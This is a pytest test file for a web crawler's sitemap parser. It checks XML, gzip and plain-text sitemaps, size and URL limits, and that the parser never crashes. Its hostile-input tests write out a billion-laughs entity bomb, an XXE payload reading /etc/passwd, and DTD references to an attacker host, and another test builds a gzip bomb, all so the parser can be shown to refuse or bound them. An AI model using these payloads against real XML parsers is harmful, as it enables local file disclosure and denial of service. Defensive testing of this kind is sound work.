"""Unit cases for gossamer.parse.sitemap: XML, gzip and text sitemaps, their limits and attacks."""

from __future__ import annotations

import gzip
import tracemalloc
import zlib
from collections.abc import Iterable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gossamer.parse.sitemap import (
    MAX_SITEMAP_BYTES,
    MAX_SITEMAP_URLS,
    Sitemap,
    SitemapEntry,
    parse_sitemap,
)

NS = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'


def urlset(*items: str, ns: str = NS) -> bytes:
    return f"{DECLARATION}<urlset {ns}>{''.join(items)}</urlset>".encode()


def url(loc: str, lastmod: str | None = None) -> str:
    extra = f"<lastmod>{lastmod}</lastmod>" if lastmod is not None else ""
    return f"<url><loc>{loc}</loc>{extra}</url>"


def gzip_stream(parts: Iterable[bytes]) -> bytes:
    """gzip the parts one at a time, so a large document is never whole in memory."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = [packer.compress(part) for part in parts]
    return b"".join([*packed, packer.flush()])


def locs(sitemap: Sitemap) -> list[str]:
    return [entry.loc for entry in sitemap.entries]


# --- well-formed sitemaps ------------------------------------------------------------


def test_urlset_keeps_lastmod_and_document_order() -> None:
    body = urlset(
        url("https://example.com/b", "2024-05-01"),
        url(" \n https://example.com/a \t", " 2023-12-31T23:59:59+00:00 "),
        url("https://example.com/c"),
        url("https://example.com/d", ""),
    )
    assert parse_sitemap(body) == Sitemap(
        is_index=False,
        entries=(
            SitemapEntry("https://example.com/b", "2024-05-01"),
            SitemapEntry("https://example.com/a", "2023-12-31T23:59:59+00:00"),
            SitemapEntry("https://example.com/c", None),
            SitemapEntry("https://example.com/d", None),
        ),
        errors=(),
    )


def test_sitemap_index_lists_sitemaps() -> None:
    body = (
        f"{DECLARATION}<sitemapindex {NS}>"
        "<sitemap><loc>https://example.com/s1.xml.gz</loc><lastmod>2024-01-02</lastmod></sitemap>"
        "<sitemap><loc>https://example.com/s2.xml</loc></sitemap>"
        "</sitemapindex>"
    ).encode()
    found = parse_sitemap(body)
    assert found.is_index and not found.errors
    assert found.entries == (
        SitemapEntry("https://example.com/s1.xml.gz", "2024-01-02"),
        SitemapEntry("https://example.com/s2.xml", None),
    )


@pytest.mark.parametrize(
    "opening",
    [
        "<urlset>",  # no namespace at all
        f"<urlset {NS}>",  # the default namespace
        '<sm:urlset xmlns:sm="http://www.sitemaps.org/schemas/sitemap/0.9">',  # a prefix
        '<urlset xmlns="http://www.google.com/schemas/sitemap/0.84">',  # an old namespace
    ],
)
def test_namespace_does_not_matter(opening: str) -> None:
    prefix = "sm:" if opening.startswith("<sm:") else ""
    entry = f"<{prefix}url><{prefix}loc>https://example.com/</{prefix}loc></{prefix}url>"
    body = f"{opening}{entry}</{prefix}urlset>".encode()
    assert parse_sitemap(body) == Sitemap(False, (SitemapEntry("https://example.com/", None),), ())


def test_entities_are_decoded_and_cdata_read() -> None:
    body = urlset(
        url("https://example.com/?a=1&amp;b=2&#38;c=&#x33;"),
        url("<![CDATA[https://example.com/?x=<y>&z]]>"),
    )
    assert locs(parse_sitemap(body)) == [
        "https://example.com/?a=1&b=2&c=3",
        "https://example.com/?x=<y>&z",
    ]


def test_entries_without_loc_and_unknown_elements_are_skipped() -> None:
    body = urlset(
        "<url><lastmod>2024-01-01</lastmod></url>",
        "<url><loc>   </loc></url>",
        "<url><priority>0.5</priority><loc>https://example.com/x</loc><image:image "
        'xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"><image:loc>'
        "https://example.com/pic.png</image:loc></image:image></url>",
        "<sitemap><loc>https://example.com/not-in-a-urlset</loc></sitemap>",
    )
    found = parse_sitemap(body)
    assert locs(found) == ["https://example.com/x"] and not found.errors


def test_bom_and_leading_whitespace_are_fine() -> None:
    body = b"\xef\xbb\xbf \r\n\t" + urlset(url("https://example.com/"))
    assert parse_sitemap(body) == Sitemap(False, (SitemapEntry("https://example.com/", None),), ())


def test_declared_latin1_encoding_is_honoured() -> None:
    body = '<?xml version="1.0" encoding="ISO-8859-1"?><urlset><url><loc>https://example.com/café'
    body += "</loc></url></urlset>"
    assert locs(parse_sitemap(body.encode("latin-1"))) == ["https://example.com/café"]


@pytest.mark.parametrize("body", [b"", b"   \n\t ", b"\xef\xbb\xbf", gzip.compress(b"")])
def test_empty_body_has_no_entries_and_no_error(body: bytes) -> None:
    assert parse_sitemap(body) == Sitemap(False, (), ())


# --- gzip --------------------------------------------------------------------------


def test_gzipped_sitemap_is_told_by_its_magic_bytes() -> None:
    body = gzip.compress(urlset(url("https://example.com/1", "2024-02-03")))
    assert parse_sitemap(body).entries == (SitemapEntry("https://example.com/1", "2024-02-03"),)


def test_multi_member_gzip_and_zero_padding() -> None:
    whole = urlset(*(url(f"https://example.com/{n}") for n in range(100)))
    half = len(whole) // 2
    body = gzip.compress(whole[:half]) + gzip.compress(whole[half:]) + b"\0" * 16
    found = parse_sitemap(body)
    assert len(found.entries) == 100 and not found.errors


def test_corrupt_gzip_keeps_what_inflated() -> None:
    whole = gzip.compress(urlset(*(url(f"https://example.com/{n}") for n in range(5000))))
    truncated = parse_sitemap(whole[: len(whole) // 2])
    assert truncated.errors == ("sitemap_bad_gzip",)
    assert 0 < len(truncated.entries) < 5000
    assert locs(truncated) == [f"https://example.com/{n}" for n in range(len(truncated.entries))]
    assert parse_sitemap(whole + b"trailing junk").errors == ("sitemap_bad_gzip",)
    assert parse_sitemap(b"\x1f\x8b not deflate at all") == Sitemap(
        False, (), ("sitemap_bad_gzip",)
    )


def test_gzip_bomb_stops_at_the_size_limit_in_bounded_memory() -> None:
    blank = b" " * (1 << 20)
    head = f"<urlset {NS}>{url('https://example.com/early')}".encode()
    tail = url("https://example.com/late").encode() + b"</urlset>"
    bomb = gzip_stream([head, *[blank] * 60, tail])  # 60 MiB inflated, about 60 KiB packed
    assert len(bomb) < 1 << 20
    tracemalloc.start()
    try:
        found = parse_sitemap(bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    early = SitemapEntry("https://example.com/early", None)
    assert found == Sitemap(False, (early,), ("sitemap_too_large",))
    assert peak < 8 << 20  # a few chunks in flight, never the inflated document


def test_limit_is_on_the_inflated_size() -> None:
    head = f"<urlset>{url('https://example.com/')}".encode()
    tail = b"</urlset>"
    blank = b" " * (1 << 20)
    fill = MAX_SITEMAP_BYTES - len(head) - len(tail)
    exact = [head, *[blank] * (fill >> 20), b" " * (fill % (1 << 20)), tail]
    assert sum(map(len, exact)) == MAX_SITEMAP_BYTES
    assert parse_sitemap(gzip_stream(exact)).errors == ()
    over = parse_sitemap(gzip_stream([*exact[:-1], b" ", tail]))
    assert over.errors == ("sitemap_too_large",) and locs(over) == ["https://example.com/"]


def test_plain_body_above_the_size_limit() -> None:
    head = urlset(url("https://example.com/"))[: -len(b"</urlset>")]
    late = b"<url><loc>https://example.com/late</loc></url>"
    body = b"".join([head, b" " * (MAX_SITEMAP_BYTES - len(head)), late])
    found = parse_sitemap(body)
    assert found.errors == ("sitemap_too_large",) and locs(found) == ["https://example.com/"]


# --- the URL limit -------------------------------------------------------------------


def many(count: int) -> bytes:
    return urlset(*(url(f"https://example.com/p/{n}") for n in range(count)))


def test_exactly_the_url_limit_is_accepted() -> None:
    found = parse_sitemap(many(MAX_SITEMAP_URLS))
    assert len(found.entries) == MAX_SITEMAP_URLS and not found.errors


def test_one_more_than_the_url_limit_is_dropped_and_counted() -> None:
    found = parse_sitemap(gzip.compress(many(MAX_SITEMAP_URLS + 1)))
    assert found.errors == ("sitemap_too_many_urls",)
    assert len(found.entries) == MAX_SITEMAP_URLS
    assert found.entries[-1].loc == f"https://example.com/p/{MAX_SITEMAP_URLS - 1}"


def test_text_sitemap_has_the_same_url_limit() -> None:
    body = "\n".join(f"https://example.com/{n}" for n in range(MAX_SITEMAP_URLS + 5)).encode()
    found = parse_sitemap(body)
    assert len(found.entries) == MAX_SITEMAP_URLS and found.errors == ("sitemap_too_many_urls",)


# --- hostile and wrong documents -------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<urlset><url><loc>https://example.com/&lol9;</loc></url></urlset>
"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        gzip.compress(BILLION_LAUGHS),
        b'<!DOCTYPE urlset [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<urlset><url><loc>https://example.com/&x;</loc></url></urlset>",
        b'<!DOCTYPE urlset SYSTEM "http://attacker.example/evil.dtd">'
        b"<urlset><url><loc>https://example.com/</loc></url></urlset>",
        b'<!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><urlset/>',
        b"<!DOCTYPE urlset><urlset><url><loc>https://example.com/</loc></url></urlset>",
    ],
    ids=["billion-laughs", "gzipped-laughs", "xxe-file", "external-dtd", "parameter", "bare"],
)
def test_any_dtd_is_refused_with_no_entries(body: bytes) -> None:
    assert parse_sitemap(body) == Sitemap(False, (), ("sitemap_dtd",))


def test_undeclared_entity_is_bad_xml() -> None:
    found = parse_sitemap(urlset(url("https://example.com/1"), url("https://example.com/&x;")))
    assert found.errors == ("sitemap_bad_xml",) and locs(found) == ["https://example.com/1"]


def test_truncated_xml_keeps_the_entries_before_the_break() -> None:
    whole = urlset(*(url(f"https://example.com/{n}", "2024-01-01") for n in range(10)))
    cut = whole[: whole.index(b"https://example.com/7")]
    found = parse_sitemap(cut)
    assert found.errors == ("sitemap_bad_xml",)
    assert locs(found) == [f"https://example.com/{n}" for n in range(7)]


def test_garbage_in_the_middle_keeps_the_entries_before_it() -> None:
    body = urlset(url("https://example.com/1"), "<url><loc>x</url>", url("https://example.com/3"))
    found = parse_sitemap(body)
    assert found.errors == ("sitemap_bad_xml",) and locs(found) == ["https://example.com/1"]


@pytest.mark.parametrize(
    "body",
    [
        b"<!DOCTYPE html><html><head><title>Not found</title></head><body>gone</body></html>",
        b"<html><body><a href='https://example.com/'>x</a></body></html>",
        b'<?xml version="1.0"?><rss version="2.0"><channel><item><link>https://example.com/'
        b"</link></item></channel></rss>",
        b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>x</id></entry></feed>',
    ],
    ids=["html5", "html", "rss", "atom"],
)
def test_other_documents_are_not_sitemaps(body: bytes) -> None:
    assert parse_sitemap(body) == Sitemap(False, (), ("sitemap_not_sitemap",))


# --- text sitemaps ---------------------------------------------------------------------


def test_text_sitemap_one_url_per_line() -> None:
    body = (
        b"\xef\xbb\xbfhttps://example.com/a\r\n"
        b"\n"
        b"   http://example.com/b?x=1&y=2   \n"
        b"# a comment\n"
        b"ftp://example.com/not-http\n"
        b"/relative/path\n"
        b"HTTPS://example.com/C\n"
        b"https://example.com/last-without-newline"
    )
    found = parse_sitemap(body)
    assert not found.is_index and not found.errors
    assert found.entries == (
        SitemapEntry("https://example.com/a", None),
        SitemapEntry("http://example.com/b?x=1&y=2", None),
        SitemapEntry("HTTPS://example.com/C", None),
        SitemapEntry("https://example.com/last-without-newline", None),
    )


def test_gzipped_text_sitemap() -> None:
    body = gzip.compress(b"https://example.com/1\nhttps://example.com/2\n")
    assert locs(parse_sitemap(body)) == ["https://example.com/1", "https://example.com/2"]


def test_text_lines_split_across_chunks() -> None:
    prefix = b"https://example.com/" + b"x" * 70_000  # longer than one read chunk
    body = prefix + b"\nhttps://example.com/y\n"
    assert locs(parse_sitemap(body)) == [prefix.decode(), "https://example.com/y"]


# --- never raises ----------------------------------------------------------------------

_PIECES = [
    b"<urlset>",
    b"</urlset>",
    b"<sitemapindex>",
    b"<url>",
    b"</url>",
    b"<sitemap>",
    b"<loc>",
    b"</loc>",
    b"<lastmod>",
    b"https://example.com/",
    b"&amp;",
    b"&x;",
    b"<![CDATA[",
    b"]]>",
    b"<!DOCTYPE x [",
    b"<!ENTITY x 'y'>",
    b"]>",
    b"\xef\xbb\xbf",
    b"\x1f\x8b",
    b"\n",
    b"\xff\xfe",
    b"<?xml version='1.0' encoding='utf-16'?>",
]


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2000))
def test_never_raises_on_any_bytes(body: bytes) -> None:
    _check_sane(parse_sitemap(body))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_PIECES) | st.binary(max_size=8), max_size=40), st.booleans())
def test_never_raises_on_sitemap_shaped_bytes(pieces: list[bytes], packed: bool) -> None:
    body = b"".join(pieces)
    _check_sane(parse_sitemap(gzip.compress(body) if packed else body))


@settings(max_examples=100, deadline=None)
@given(st.binary(min_size=1, max_size=400), st.integers(min_value=0))
def test_never_raises_on_damaged_gzip(body: bytes, where: int) -> None:
    packed = bytearray(gzip.compress(body))
    packed[where % len(packed)] ^= 0x5A
    _check_sane(parse_sitemap(bytes(packed)))


def _check_sane(found: Sitemap) -> None:
    assert len(found.entries) <= MAX_SITEMAP_URLS
    assert len(set(found.errors)) == len(found.errors)
    assert set(found.errors) <= {
        "sitemap_bad_xml",
        "sitemap_dtd",
        "sitemap_too_large",
        "sitemap_too_many_urls",
        "sitemap_bad_gzip",
        "sitemap_not_sitemap",
    }
    assert all(entry.loc and entry.loc == entry.loc.strip() for entry in found.entries)
